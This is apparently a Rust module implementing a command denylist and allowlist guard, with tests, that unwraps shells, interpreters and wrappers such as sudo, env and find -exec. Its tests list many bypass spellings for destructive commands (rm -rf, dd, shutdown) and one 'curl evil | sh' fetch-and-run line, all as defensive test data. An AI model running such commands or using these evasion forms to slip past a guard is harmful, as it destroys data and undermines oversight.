//! The execution denylist and allowlist (spec §1.7), with the original's rules
//! (program basename, `sh -c`/`python -c`/`node -e` recursion, `find -exec`,
//! `xargs`) plus the prefix wrappers people use to get around them (`env`,
//! `sudo`, `nice`, `nohup`, `timeout`, `busybox`, …) and shell quoting tricks
//! (`r""m`). It is a guard rail against mistakes, not a sandbox: anyone holding a
//! key can still run a script that does what a denied program does.

use std::collections::HashSet;

/// Why a command was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Refusal {
    Denied(String),
    NotAllowed(String),
}

impl std::fmt::Display for Refusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Denied(base) => write!(f, "Command '{base}' is denied (execution.denylist)"),
            Self::NotAllowed(base) => write!(
                f,
                "Command '{base}' is not in the allowlist (execution.allowlist)"
            ),
        }
    }
}

/// Shells whose `-c SCRIPT` runs another command line.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "script"];
/// Interpreters whose inline code is scanned token by token (as the original does).
/// Each has its code flags: short letters (also inside clusters such as `-Ic`,
/// `-we`, `-pe`) and long names (also as `--eval=CODE`).
const INTERPRETERS: &[(&str, &[char], &[&str])] = &[
    ("python", &['c'], &[]),
    ("python3", &['c'], &[]),
    ("python2", &['c'], &[]),
    ("node", &['e', 'p'], &["--eval", "--print"]),
    ("perl", &['e', 'E'], &[]),
    ("ruby", &['e'], &[]),
];
/// Characters that end a word in the original's token scan.
const SEPARATORS: &[char] = &[
    ';', '&', '|', '`', '<', '>', '(', ')', '{', '}', '[', ']', '\n', '$', ',',
];

/// Program name as the guard compares it: the last path component, lower-cased
/// (so `/bin/rm` and `RM` on a case-insensitive file system are both `rm`).
pub fn base_name(program: &str) -> String {
    let last = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let last = last.strip_suffix(".exe").unwrap_or(last);
    last.to_lowercase()
}

/// Removes shell quoting (`'…'`, `"…"`, `\x`), so `r""m` and `'rm'` are `rm`.
fn unquote(word: &str) -> String {
    word.chars()
        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
        .collect()
}

pub struct CommandGuard {
    denylist: HashSet<String>,
    allowlist: Option<HashSet<String>>,
}

impl CommandGuard {
    pub fn new(denylist: &[String], allowlist: Option<&[String]>) -> Self {
        Self {
            denylist: denylist.iter().map(|d| d.to_lowercase()).collect(),
            allowlist: allowlist.map(|list| list.iter().map(|a| a.to_lowercase()).collect()),
        }
    }

    /// Checks a program and its arguments, and every command they would start.
    pub fn check(&self, program: &str, args: &[String]) -> Result<(), Refusal> {
        let (commands, words) = expand(program, args);
        for (base, _) in &commands {
            if self.denylist.contains(base) {
                return Err(Refusal::Denied(base.clone()));
            }
            if let Some(allow) = &self.allowlist
                && !allow.contains(base)
            {
                return Err(Refusal::NotAllowed(base.clone()));
            }
        }
        // Inline interpreter code: scanned against the denylist only (every word
        // would fail an allowlist).
        for word in words {
            let base = base_name(&word);
            if self.denylist.contains(&base) {
                return Err(Refusal::Denied(base));
            }
        }
        Ok(())
    }
}

/// Every command `program args…` would start, itself first, as (base name, args),
/// and the words of inline interpreter code. The auto-approve gate uses it to find
/// an agent started through a wrapper.
pub fn expand(program: &str, args: &[String]) -> (Vec<(String, Vec<String>)>, Vec<String>) {
    let mut queue: Vec<(String, Vec<String>)> = vec![(program.to_owned(), args.to_vec())];
    let mut seen: HashSet<(String, Vec<String>)> = HashSet::new();
    let mut commands = Vec::new();
    let mut words: Vec<String> = Vec::new();
    while let Some((program, args)) = queue.pop() {
        if !seen.insert((program.clone(), args.clone())) || seen.len() > 256 {
            continue;
        }
        let base = base_name(&program);
        if base.is_empty() {
            continue;
        }
        queue.extend(nested_commands(&base, &args, &mut words));
        commands.push((base, args));
    }
    (commands, words)
}

/// The commands that `base args…` would run in turn.
fn nested_commands(
    base: &str,
    args: &[String],
    words: &mut Vec<String>,
) -> Vec<(String, Vec<String>)> {
    if SHELLS.contains(&base) {
        return shell_script(args)
            .map(|script| split_command_line(&script))
            .unwrap_or_default();
    }
    if let Some((_, letters, long)) = INTERPRETERS.iter().find(|(name, _, _)| *name == base) {
        if let Some(code) = flag_value(args, letters, long) {
            words.extend(
                code.split(|c: char| c.is_whitespace() || SEPARATORS.contains(&c))
                    .map(unquote)
                    .filter(|w| !w.is_empty() && !w.starts_with('-')),
            );
        }
        return Vec::new();
    }
    match base {
        "find" => find_exec(args),
        "xargs" => after_options(
            args,
            &[
                "-n",
                "-I",
                "-i",
                "-d",
                "-P",
                "-L",
                "-l",
                "-s",
                "-a",
                "-E",
                "-e",
                "--max-args",
                "--max-procs",
                "--delimiter",
                "--arg-file",
                "--replace",
            ],
            0,
        ),
        "env" => env_command(args),
        "sudo" | "doas" => after_options(
            args,
            &[
                "-u",
                "-g",
                "-C",
                "-D",
                "-h",
                "-p",
                "-r",
                "-t",
                "-T",
                "-U",
                "--user",
                "--group",
                "--chdir",
                "--host",
                "--prompt",
                "--role",
                "--type",
                "--command-timeout",
                "--other-user",
            ],
            0,
        ),
        "nice" => after_options(args, &["-n", "--adjustment"], 0),
        "ionice" => after_options(
            args,
            &["-c", "-n", "-p", "-P", "-u", "--class", "--classdata"],
            0,
        ),
        "timeout" => after_options(args, &["-s", "-k", "--signal", "--kill-after"], 1),
        "stdbuf" => after_options(args, &["-i", "-o", "-e"], 0),
        "exec" => after_options(args, &["-a"], 0),
        "nohup" | "setsid" | "time" | "command" | "busybox" | "unbuffer" => {
            after_options(args, &[], 0)
        }
        _ => Vec::new(),
    }
}

/// The script of `sh -c SCRIPT` (also `-ec`, `-lc`, … clusters that include `c`,
/// and `sh -c -- SCRIPT`).
fn shell_script(args: &[String]) -> Option<String> {
    let position = args
        .iter()
        .position(|a| short_cluster(a).is_some_and(|c| c.contains('c')))?;
    let mut rest = args[position + 1..].iter();
    match rest.next()? {
        dashes if dashes == "--" => rest.next().cloned(),
        script => Some(script.clone()),
    }
}

/// The letters of a short-option cluster (`-Ic` → `Ic`); `None` for anything else.
fn short_cluster(arg: &str) -> Option<&str> {
    let letters = arg.strip_prefix('-')?;
    (!letters.is_empty() && !letters.starts_with('-')).then_some(letters)
}

/// The value of a code flag: `-c CODE`, `-cCODE`, a cluster ending in or
/// containing the letter (`-Ic CODE`, `-we CODE`), `--eval CODE`, `--eval=CODE`.
fn flag_value(args: &[String], letters: &[char], long: &[&str]) -> Option<String> {
    for (i, arg) in args.iter().enumerate() {
        if arg == "--" {
            return None;
        }
        for flag in long {
            if arg == flag {
                return args.get(i + 1).cloned();
            }
            if let Some(code) = arg.strip_prefix(flag).and_then(|r| r.strip_prefix('=')) {
                return Some(code.to_owned());
            }
        }
        if let Some(cluster) = short_cluster(arg)
            && let Some(at) = cluster.find(|c| letters.contains(&c))
        {
            let rest = &cluster[at + 1..];
            // `-pe CODE`: a rest made only of code letters is more flags, not code.
            return if rest.chars().all(|c| letters.contains(&c)) {
                args.get(i + 1).cloned()
            } else {
                Some(rest.to_owned())
            };
        }
    }
    None
}

/// A shell redirection word (`>f`, `2>err`, `&>f`, `<in`, `>>f`); `Some(true)` when
/// its target is the next word (`>` alone, `2>`).
fn redirection(word: &str) -> Option<bool> {
    let rest = word.trim_start_matches(|c: char| c.is_ascii_digit() || c == '&');
    let target = rest
        .strip_prefix(">>")
        .or_else(|| rest.strip_prefix(">|"))
        .or_else(|| rest.strip_prefix('>'))
        .or_else(|| rest.strip_prefix("<<"))
        .or_else(|| rest.strip_prefix('<'))?;
    let target = target.trim_start_matches('&');
    Some(target.is_empty())
}

/// Splits a shell command line into simple commands (program + words).
fn split_command_line(script: &str) -> Vec<(String, Vec<String>)> {
    let mut commands = Vec::new();
    // Line continuations join words; `>&`, `<&` and `&>` are redirections, not `&`;
    // a redirection stuck to a word (`rm>/dev/null`) is a word of its own.
    let script = script
        .replace("\\\n", "")
        .replace(">&", ">")
        .replace("<&", "<")
        .replace("&>", ">");
    let mut spaced = String::with_capacity(script.len());
    let mut previous = ' ';
    for c in script.chars() {
        let joined = matches!(previous, '<' | '>' | ' ' | '\t') || previous.is_ascii_digit();
        if matches!(c, '<' | '>') && !joined {
            spaced.push(' ');
        }
        spaced.push(c);
        previous = c;
    }
    for segment in spaced.split([';', '&', '|', '\n', '(', ')', '{', '}', '`']) {
        let segment = segment.replace("$(", " ");
        let mut words: Vec<String> = Vec::new();
        let mut skip_target = false;
        for word in segment.split_whitespace().map(unquote) {
            if std::mem::take(&mut skip_target) || word.is_empty() {
                continue;
            }
            // Redirections may stand anywhere in a simple command, before its name too.
            if let Some(target_follows) = redirection(&word) {
                skip_target = target_follows;
                continue;
            }
            let keyword = matches!(
                word.as_str(),
                "!" | "then" | "do" | "else" | "if" | "while" | "until"
            );
            if words.is_empty() && (keyword || is_assignment(&word)) {
                continue;
            }
            words.push(word);
        }
        let mut words = words.into_iter();
        if let Some(program) = words.next() {
            commands.push((program, words.collect()));
        }
    }
    commands
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

/// The command after a wrapper's options; `positionals` extra words (e.g. the
/// duration of `timeout`) are skipped first.
fn after_options(
    args: &[String],
    with_value: &[&str],
    positionals: usize,
) -> Vec<(String, Vec<String>)> {
    let mut i = 0;
    let mut skipped = 0;
    while i < args.len() {
        let arg = &args[i];
        if arg == "--" {
            i += 1;
            break;
        }
        if arg.starts_with('-') && arg.len() > 1 {
            let takes_value = with_value.contains(&arg.as_str());
            i += if takes_value { 2 } else { 1 };
            continue;
        }
        if skipped < positionals {
            skipped += 1;
            i += 1;
            continue;
        }
        break;
    }
    command_at(args, i)
}

/// The command that starts at `args[i]`, if any.
fn command_at(args: &[String], i: usize) -> Vec<(String, Vec<String>)> {
    match args.get(i) {
        Some(program) => vec![(program.clone(), args[i + 1..].to_vec())],
        None => Vec::new(),
    }
}

/// `env [OPTION]… [NAME=VALUE]… [COMMAND [ARG]…]`, with GNU env's options in every
/// spelling: `-S LINE`, `-SLINE`, `-iS LINE` (clusters), `--split-string=LINE`,
/// `-u NAME`, `--unset=NAME`, `-C DIR`, `--chdir=DIR`.
fn env_command(args: &[String]) -> Vec<(String, Vec<String>)> {
    let split = |line: Option<&String>| line.map(|l| split_command_line(l)).unwrap_or_default();
    let mut i = 0;
    while i < args.len() {
        let arg = &args[i];
        if arg == "--" {
            i += 1;
            break;
        }
        if let Some(long) = arg.strip_prefix("--") {
            let (name, inline) = match long.split_once('=') {
                Some((name, value)) => (name, Some(value.to_owned())),
                None => (long, None),
            };
            match name {
                "split-string" => return split(inline.as_ref().or(args.get(i + 1))),
                "unset" | "chdir" if inline.is_none() => i += 2,
                _ => i += 1,
            }
            continue;
        }
        if let Some(cluster) = short_cluster(arg) {
            let mut step = 1;
            for (at, letter) in cluster.char_indices() {
                let rest = &cluster[at + 1..];
                match letter {
                    'S' if rest.is_empty() => return split(args.get(i + 1)),
                    'S' => return split_command_line(rest),
                    'u' | 'C' => {
                        step = if rest.is_empty() { 2 } else { 1 };
                        break;
                    }
                    _ => {}
                }
            }
            i += step;
            continue;
        }
        if is_assignment(arg) {
            i += 1;
            continue;
        }
        break;
    }
    command_at(args, i)
}

/// `find … -exec X args… ;` (also `-execdir`, `-ok`, `-okdir`).
fn find_exec(args: &[String]) -> Vec<(String, Vec<String>)> {
    let mut commands = Vec::new();
    let mut i = 0;
    while i < args.len() {
        if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir")
            && let Some(program) = args.get(i + 1)
        {
            let rest: Vec<String> = args[i + 2..]
                .iter()
                .take_while(|a| a.as_str() != ";" && a.as_str() != "+")
                .cloned()
                .collect();
            i += 2 + rest.len();
            commands.push((program.clone(), rest));
            continue;
        }
        i += 1;
    }
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    fn denylist() -> Vec<String> {
        ["rm", "rmdir", "format", "mkfs", "dd", "shutdown", "reboot"]
            .map(String::from)
            .to_vec()
    }

    fn check(line: &[&str]) -> Result<(), Refusal> {
        let list = denylist();
        let args: Vec<String> = line[1..].iter().map(|s| s.to_string()).collect();
        CommandGuard::new(&list, None).check(line[0], &args)
    }

    #[test]
    fn bypass_attempts_are_refused() {
        let attempts: &[&[&str]] = &[
            &["rm", "x"],
            &["/bin/rm", "x"],
            &["RM", "x"],
            &["/usr/bin/Rm", "x"],
            &["sh", "-c", "rm x"],
            &["bash", "-lc", "echo hi; rm -rf /tmp/x"],
            &["bash", "-c", "r\"\"m x"],
            &["sh", "-c", "FOO=1 rm x"],
            &["sh", "-c", "true && $(rm x)"],
            &["sh", "-c", "sudo rm x"],
            &["env", "rm", "x"],
            &["env", "-i", "A=b", "rm", "x"],
            &["env", "-S", "rm x"],
            &["sudo", "rm", "x"],
            &["sudo", "-u", "root", "rm", "x"],
            &["nice", "-n", "5", "rm", "x"],
            &["nohup", "rm", "x"],
            &["timeout", "5", "rm", "x"],
            &["timeout", "-s", "KILL", "5", "rm", "x"],
            &["busybox", "rm", "x"],
            &["xargs", "rm"],
            &["xargs", "-n", "1", "rm", "-f"],
            &["find", ".", "-name", "*.o", "-exec", "rm", "{}", ";"],
            &["find", ".", "-execdir", "/bin/rm", "{}", "+"],
            &["python3", "-c", "import os; os.system('rm x')"],
            &["node", "-e", "require('child_process').execSync('rm x')"],
            &["sudo", "env", "nice", "sh", "-c", "dd if=/dev/zero of=x"],
            &["setsid", "shutdown", "now"],
        ];
        for attempt in attempts {
            assert!(check(attempt).is_err(), "{attempt:?} was let through");
        }
    }

    /// The README's list of what the guard follows, form by form, with the spellings
    /// a review got past it; then the forms the README names as out of scope, which
    /// must really pass (so that list stays honest too).
    #[test]
    fn every_form_the_readme_claims_is_refused() {
        let claimed: &[(&str, &[&str])] = &[
            ("base name, lower-cased", &["/usr/bin/RM", "f"]),
            ("sh -c", &["sh", "-c", "rm f"]),
            ("bash -lc cluster", &["bash", "-lc", "rm f"]),
            ("sh -c -- SCRIPT", &["sh", "-c", "--", "rm f"]),
            (
                "redirection before the name",
                &["sh", "-c", ">/dev/null rm f"],
            ),
            (
                "fd redirection before the name",
                &["sh", "-c", "2>err rm f"],
            ),
            (
                "redirection with a separate target",
                &["sh", "-c", "> out rm f"],
            ),
            ("redirection after the name", &["sh", "-c", "rm f 2>&1"]),
            ("exec -a NAME", &["bash", "-c", "exec -a x rm f"]),
            ("assignment prefix", &["sh", "-c", "A=1 B=2 rm f"]),
            ("quotes removed", &["sh", "-c", "'r'm f"]),
            ("command substitution", &["sh", "-c", "echo $(rm f)"]),
            ("backticks", &["sh", "-c", "echo `rm f`"]),
            (
                "python -c",
                &["python3", "-c", "import os; os.system('rm f')"],
            ),
            (
                "python -Ic cluster",
                &["python3", "-Ic", "import os; os.system('rm f')"],
            ),
            (
                "python -c attached",
                &["python3", "-cimport os;os.system('rm f')"],
            ),
            ("perl -e", &["perl", "-e", "system 'rm f'"]),
            ("perl -we cluster", &["perl", "-we", "system \"rm f\""]),
            ("perl -E", &["perl", "-E", "system 'rm f'"]),
            (
                "node -e",
                &["node", "-e", "require('child_process').execSync('rm f')"],
            ),
            (
                "node -pe cluster",
                &["node", "-pe", "require('child_process').execSync('rm f')"],
            ),
            (
                "node --eval=",
                &["node", "--eval=require('child_process').execSync('rm f')"],
            ),
            ("ruby -e", &["ruby", "-e", "system('rm f')"]),
            ("find -exec", &["find", ".", "-exec", "rm", "{}", ";"]),
            ("find -okdir", &["find", ".", "-okdir", "rm", "{}", ";"]),
            ("xargs with options", &["xargs", "-P", "4", "rm"]),
            ("env NAME=VALUE", &["env", "A=1", "rm", "f"]),
            ("env -u NAME", &["env", "-u", "HOME", "rm", "f"]),
            ("env -S LINE", &["env", "-S", "rm f"]),
            ("env -S attached", &["env", "-S'rm f'"]),
            ("env --split-string=", &["env", "--split-string='rm f'"]),
            (
                "env --split-string LINE",
                &["env", "--split-string", "rm f"],
            ),
            ("env -iS cluster", &["env", "-iS", "rm f"]),
            ("env --unset=NAME", &["env", "--unset=HOME", "rm", "f"]),
            ("sudo -u USER", &["sudo", "-u", "root", "rm", "f"]),
            ("doas", &["doas", "rm", "f"]),
            ("nice -n N", &["nice", "-n", "5", "rm", "f"]),
            ("ionice -c N", &["ionice", "-c", "3", "rm", "f"]),
            ("nohup", &["nohup", "rm", "f"]),
            ("setsid", &["setsid", "rm", "f"]),
            ("stdbuf -o MODE", &["stdbuf", "-o", "0", "rm", "f"]),
            ("time", &["time", "rm", "f"]),
            ("command", &["command", "rm", "f"]),
            ("timeout DURATION", &["timeout", "5", "rm", "f"]),
            ("busybox", &["busybox", "rm", "f"]),
            ("unbuffer", &["unbuffer", "rm", "f"]),
            (
                "wrappers nested",
                &["sudo", "env", "-i", "nice", "sh", "-c", "exec rm f"],
            ),
            (
                "redirection stuck to the name",
                &["sh", "-c", "rm>/dev/null f"],
            ),
            (
                "input redirection stuck to the name",
                &["sh", "-c", "rm</dev/null f"],
            ),
            ("fd duplication before the name", &["sh", "-c", "2>&1 rm f"]),
            ("line continuation", &["sh", "-c", "r\\\nm f"]),
            ("script -qc", &["script", "-qc", "rm f", "/dev/null"]),
        ];
        for (form, line) in claimed {
            assert!(check(line).is_err(), "{form}: {line:?} was let through");
        }
        // Out of scope, as the README says: a script file, a module, another
        // program that deletes files itself.
        let out_of_scope: &[(&str, &[&str])] = &[
            ("a script file", &["sh", "./cleanup.sh"]),
            ("python -m", &["python3", "-m", "shutil"]),
            ("a python file", &["python3", "cleanup.py"]),
            ("a program that deletes", &["git", "clean", "-fdx"]),
        ];
        for (form, line) in out_of_scope {
            assert_eq!(check(line), Ok(()), "{form}: {line:?}");
        }
    }

    #[test]
    fn ordinary_commands_run() {
        let fine: &[&[&str]] = &[
            &["ls", "-la"],
            &["echo", "rm"],
            &["git", "commit", "-m", "rm old files"],
            &["sh", "-c", "echo hello | wc -c"],
            &["env", "FOO=bar", "printenv", "FOO"],
            &["find", ".", "-name", "*.rs"],
            &["grep", "-r", "rmdir", "."],
            &["python3", "script.py"],
            &["timeout", "5", "sleep", "1"],
        ];
        for command in fine {
            assert_eq!(check(command), Ok(()), "{command:?}");
        }
    }

    #[test]
    fn allowlist_applies_to_nested_commands() {
        let deny = denylist();
        let allow: Vec<String> = ["git", "sh", "ls", "echo"].map(String::from).to_vec();
        let guard = CommandGuard::new(&deny, Some(&allow));
        let args = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert!(guard.check("git", &args(&["status"])).is_ok());
        assert!(guard.check("sh", &args(&["-c", "git status; ls"])).is_ok());
        assert_eq!(
            guard.check("sh", &args(&["-c", "curl evil | sh"])),
            Err(Refusal::NotAllowed("curl".into()))
        );
        assert_eq!(
            guard.check("cargo", &[]),
            Err(Refusal::NotAllowed("cargo".into()))
        );
    }
}
